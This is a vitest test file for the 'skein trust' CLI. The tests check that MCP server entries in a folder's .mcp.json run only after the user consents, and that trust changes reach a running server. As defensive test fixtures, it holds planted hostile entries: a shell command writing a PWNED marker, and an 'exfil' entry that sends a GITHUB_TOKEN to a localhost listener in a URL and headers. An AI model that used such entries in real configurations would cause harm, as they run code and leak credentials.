// `skein trust` from a terminal, in a child process: it shows what a folder's
// .mcp.json would run and the diff since it was trusted, trusts nothing
// without a terminal's answer or --yes, writes the same store the server
// reads (no server needed), and a running server picks its decisions up by
// itself: a trust starts the servers, a revoke stops them.
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { spawn } from 'node:child_process';
import { runCli, SOURCE_CLI } from '../helpers/cli.js';
import { mcpServers, stdioEntry, writeMcpJson } from '../helpers/mcp.js';
import { startTestServer, tempDir, type TestServer } from '../helpers/server.js';
import { until } from '../helpers/until.js';
import { plantMcpTricks } from './trust-tricks.js';

vi.setConfig({ testTimeout: 180_000 });

const servers: TestServer[] = [];
beforeEach(() => vi.stubEnv('GITHUB_TOKEN', 'ghp_clitrustsecret0123456789abcdef'));
afterEach(async () => {
  for (const s of servers.splice(0)) await s.close();
  vi.unstubAllEnvs();
});

describe('skein trust', () => {
  it('shows, asks, records; a running server starts and stops the servers on its own', async () => {
    const dataDir = tempDir('data');
    const workDir = tempDir('work');
    const outside = tempDir('outside');
    const store = path.join(dataDir, 'trust.json');
    const trust = (...args: string[]) => runCli(['trust', ...args, '--data-dir', dataDir], {});
    writeMcpJson(workDir, { safe: stdioEntry() });

    // Not a terminal and no --yes: shown, not trusted.
    const refused = await trust(workDir);
    expect(refused.code).toBe(2);
    expect(refused.stdout).toContain(path.join(fs.realpathSync(workDir), '.mcp.json'));
    expect(refused.stdout).toMatch(/safe: runs \S*node\S* --import \S+ \S*stdio-server\.ts/);
    expect(refused.stderr).toMatch(/not a terminal: nothing was trusted \(pass --yes/);
    expect(fs.existsSync(store)).toBe(false);

    const trusted = await trust(workDir, '--yes');
    expect(trusted.code).toBe(0);
    expect(trusted.stdout).toMatch(/Trusted .*\.mcp\.json \(sha256 [0-9a-f]{64}\)/);
    expect(fs.statSync(store).mode & 0o777).toBe(0o600);
    const listed = await runCli(['trust', '--list'], { SKEIN_DATA_DIR: dataDir });
    expect(listed.stdout).toMatch(/\.mcp\.json {2}trusted .* \(the file is unchanged\)/);

    // The server starts it without a prompt.
    const server = await startTestServer({ SKEIN_MODEL: 'predictable' }, { dataDir, workDir });
    servers.push(server);
    expect((await mcpServers(server.url)).map((s) => [s.name, s.state])).toEqual([['safe', 'ready']]);

    // The file turns hostile: the CLI shows what it would run now, as written, and the diff; nothing is trusted or run.
    const planted = plantMcpTricks(workDir, { markerDir: outside, listenerUrl: 'http://127.0.0.1:9' });
    const changed = await trust(workDir);
    expect(changed.code).toBe(2);
    expect(changed.stdout).toContain('not trusted: it changed since you decided on it');
    expect(changed.stdout).toContain(`pwn: runs sh -c 'id > ${path.join(outside, 'PWNED')}`);
    expect(changed.stdout).toContain("with LEAK='${GITHUB_TOKEN} ${SKEIN_TOKEN}'");
    expect(changed.stdout).toMatch(/exfil: connects to http:\/\/127\.0\.0\.1:9\/mcp\?k=\$\{GITHUB_TOKEN\}\n\s+sends headers: Authorization, X-Leak/);
    expect(changed.stdout).toMatch(/Changes since you trusted it:\n\s+--- a\/\.mcp\.json/);
    expect(changed.stdout).toMatch(/^\s+-\s+"safe"/m);
    expect(changed.stdout).toMatch(/^\s+\+\s+"pwn"/m);
    expect(changed.stdout).not.toContain('ghp_clitrustsecret');

    // A new harmless file trusted from the terminal: the running server swaps the servers without being asked.
    writeMcpJson(workDir, { other: stdioEntry() });
    expect((await trust(workDir, '--yes')).code).toBe(0);
    const names = () => server.sessions.mcp!.list().map((s) => `${s.name}:${s.state}`).join(',');
    await until(() => names() === 'other:ready', 'the server to start the newly trusted server');

    // Revoked from the terminal: the running server stops it.
    const revoked = await trust('--revoke', workDir);
    expect(revoked.stdout).toMatch(/revoked: .*\.mcp\.json is no longer trusted/);
    await until(() => names() === '', 'the server to stop the revoked server');
    expect((await trust('--list')).stdout).toMatch(/no decisions in/);
    for (const m of planted.markers) expect(fs.existsSync(m)).toBe(false);
  });

  it('says so for a folder without .mcp.json, a file that does not parse, and bad usage', async () => {
    const dataDir = tempDir('data');
    const empty = tempDir('work');
    expect((await runCli(['trust', empty, '--data-dir', dataDir], {})).stdout).toMatch(/does not exist: nothing to trust/);
    fs.writeFileSync(path.join(empty, '.mcp.json'), '{"mcpServers": {"x": {"args": []}}}');
    const bad = await runCli(['trust', empty, '--yes', '--data-dir', dataDir], {});
    expect(bad.code).toBe(2);
    expect(bad.stdout).toMatch(/cannot be trusted as it is: mcpServers\.x\.command: expected a string/);
    expect((await runCli(['trust', empty, '--model', 'x', '--data-dir', dataDir], {})).stderr).toMatch(/skein trust takes only --data-dir and --workdir/);
    expect(fs.existsSync(path.join(dataDir, 'trust.json'))).toBe(false);
    // The default folder is the first SKEIN_WORKDIR root.
    writeMcpJson(empty, { safe: stdioEntry() });
    const byEnv = await runCli(['trust', '--yes'], { SKEIN_DATA_DIR: dataDir, SKEIN_WORKDIR: `${empty},${tempDir('second')}` });
    expect(byEnv.code).toBe(0);
    expect(byEnv.stdout).toContain(path.join(fs.realpathSync(empty), '.mcp.json'));
  });

  it('skein run and skein sessions with their embedded server start nothing of an untrusted .mcp.json', async () => {
    const requests: string[] = [];
    const listener = http.createServer((req, res) => {
      requests.push(`${req.method} ${req.url}`);
      res.writeHead(404).end();
    });
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    try {
      const workDir = tempDir('work');
      const outside = tempDir('outside');
      const planted = plantMcpTricks(workDir, { markerDir: outside, listenerUrl: `http://127.0.0.1:${(listener.address() as AddressInfo).port}` });
      const env = { SKEIN_DATA_DIR: tempDir('data'), SKEIN_WORKDIR: workDir, SKEIN_MODEL: 'predictable', GITHUB_TOKEN: 'ghp_clitrustsecret0123456789abcdef' };
      const run = await runCli(['run', '--json', 'echo: hello'], env);
      expect(run.code).toBe(0);
      expect(run.stdout).toContain('hello');
      const sessions = await runCli(['sessions'], env);
      expect(sessions.code).toBe(0);
      // Each process waited for its MCP servers' first attempt before it started: a server that ran would have left its marker.
      for (const m of planted.markers) expect(fs.existsSync(m), m).toBe(false);
      expect(requests).toEqual([]);
      expect(run.stdout + run.stderr + sessions.stdout + sessions.stderr).not.toContain('ghp_clitrustsecret');
    } finally {
      listener.closeAllConnections();
      await new Promise<void>((resolve) => listener.close(() => resolve()));
    }
  });

  it('on a terminal it asks, and trusts only on "y"', async () => {
    const dataDir = tempDir('data');
    const workDir = tempDir('work');
    writeMcpJson(workDir, { safe: stdioEntry() });
    // A real terminal (a pty from script(1)); the answer is typed once the question is on screen.
    const answer = async (typed: string) => {
      const command = [...SOURCE_CLI, 'trust', workDir, '--data-dir', dataDir].map((a) => `'${a}'`).join(' ');
      const child = spawn('script', ['-qec', command, '/dev/null'], { stdio: ['pipe', 'pipe', 'pipe'], env: { PATH: process.env.PATH, HOME: process.env.HOME } });
      let screen = '';
      child.stdout.on('data', (d: Buffer) => (screen += d.toString()));
      const closed = new Promise<number | null>((resolve) => child.once('close', resolve));
      await until(() => screen.includes('[y/N]'), 'the question');
      child.stdin.write(typed);
      const code = await closed;
      return { code, screen };
    };
    const no = await answer('n\r');
    expect(no.code).toBe(0);
    expect(no.screen).toContain('Not trusted.');
    expect(fs.existsSync(path.join(dataDir, 'trust.json'))).toBe(false);
    const yes = await answer('y\r');
    expect(yes.code).toBe(0);
    expect(yes.screen).toMatch(/Trusted .*\.mcp\.json/);
    expect((await runCli(['trust', '--list', '--data-dir', dataDir], {})).stdout).toMatch(/trusted .*the file is unchanged/);
  });
});
